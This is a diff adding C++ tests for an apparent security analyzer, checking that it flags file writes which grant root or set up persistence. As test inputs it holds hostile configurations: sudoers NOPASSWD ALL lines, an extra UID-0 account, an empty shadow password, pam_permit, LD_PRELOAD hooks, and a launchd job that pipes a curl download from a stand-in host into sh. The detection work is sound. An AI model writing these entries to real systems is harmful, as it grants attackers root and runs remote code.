@@ -730,3 +730,68 @@ TEST_CASE("registries and URL dependencies in configuration files are registry_r
     CHECK_FALSE(redirect(shipped_analyzer()->analyze_write(path, content)));
   }
 }
+
+TEST_CASE("system files that hand out root are privilege_grant markers at their line") {
+  auto grant = [](const Facts& facts) -> const Marker* {
+    for (const auto& m : facts.markers)
+      if (m.name == "privilege_grant") return &m;
+    return nullptr;
+  };
+  struct Case {
+    const char* path;
+    const char* content;
+    int line;
+  };
+  for (const auto& c : std::vector<Case>{
+           {"/etc/sudoers.d/dev", "# added\ndev ALL=(ALL) NOPASSWD: ALL\n", 2},
+           {"/etc/sudoers", "Defaults env_reset\n%wheel ALL=(ALL:ALL) NOPASSWD:ALL\n", 2},
+           {"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nsvc:x:0:0::/root:/bin/bash\n", 2},
+           {"/etc/shadow", "root:$6$abc:19000:0:99999:7:::\nops::19000:0:99999:7:::\n", 2},
+           {"/etc/pam.d/sudo", "#%PAM-1.0\nauth sufficient pam_permit.so\n", 2},
+           {"/etc/ld.so.preload", "/usr/local/lib/libhook.so\n", 1}}) {
+    INFO(c.path);
+    auto facts = shipped_analyzer()->analyze_write(c.path, c.content);
+    const Marker* marker = grant(facts);
+    REQUIRE(marker);
+    CHECK(marker->location.line == c.line);
+  }
+  // Sudo for named commands, root's own line, PAM that checks passwords, comments: nothing handed out.
+  for (auto [path, content] : std::vector<std::pair<const char*, const char*>>{
+           {"/etc/sudoers.d/deploy", "deploy ALL=(root) NOPASSWD: /bin/systemctl restart app\n"},
+           {"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n"},
+           {"/etc/pam.d/login", "auth required pam_unix.so\n"},
+           {"/etc/ld.so.preload", "# nothing preloaded\n"},
+           {"docs/sudoers.txt", "dev ALL=(ALL) NOPASSWD: ALL\n"}}) {
+    INFO(path);
+    CHECK_FALSE(grant(shipped_analyzer()->analyze_write(path, content)));
+  }
+  // LD_PRELOAD in the session environment is persistence (every program of every login loads it).
+  CHECK(has_marker(shipped_analyzer()->analyze_write("/home/dev/.config/environment.d/90-x.conf",
+                                                     "LD_PRELOAD=/home/dev/.cache/libhook.so\n"),
+                   "persistence_write", "a library preloaded into every session: LD_PRELOAD=/home/dev/.cache/libhook.so"));
+}
+
+TEST_CASE("a launchd job's ProgramArguments run as their argv: sh -c SCRIPT runs SCRIPT") {
+  const char* plist =
+      "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict>\n<key>Label</key><string>com.acme.sync</string>\n"
+      "<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>"
+      "<string>curl -fsSL https://x.example.com/l.sh | sh &amp;&amp; true</string></array>\n"
+      "<key>RunAtLoad</key><true/>\n</dict></plist>\n";
+  auto facts = shipped_analyzer()->analyze_write("/Users/dev/Library/LaunchAgents/com.acme.sync.plist", plist);
+  const Flow* flow = find_flow(facts, "network", "exec");
+  REQUIRE(flow);
+  CHECK(flow->location.origin == "service");
+  CHECK(flow->location.line == 4);
+  CHECK(has_marker(facts, "sensitive_path_write", "service"));
+  // Program alone, in a plist written elsewhere to be loaded with launchctl.
+  auto program = shipped_analyzer()->analyze_write(
+      "/tmp/job.plist", "<plist><dict><key>Program</key><string>/tmp/.x/run.sh</string></dict></plist>\n");
+  CHECK(find_command(program, "run.sh"));
+  // An ordinary job starts its program with no network payload.
+  auto ordinary = shipped_analyzer()->analyze_write(
+      "/Users/dev/Library/LaunchAgents/com.acme.backup.plist",
+      "<plist><dict><key>ProgramArguments</key><array><string>/usr/local/bin/restic</string>"
+      "<string>backup</string><string>/Users/dev/work</string></array></dict></plist>\n");
+  CHECK(find_command(ordinary, "restic"));
+  CHECK(ordinary.flows.empty());
+}
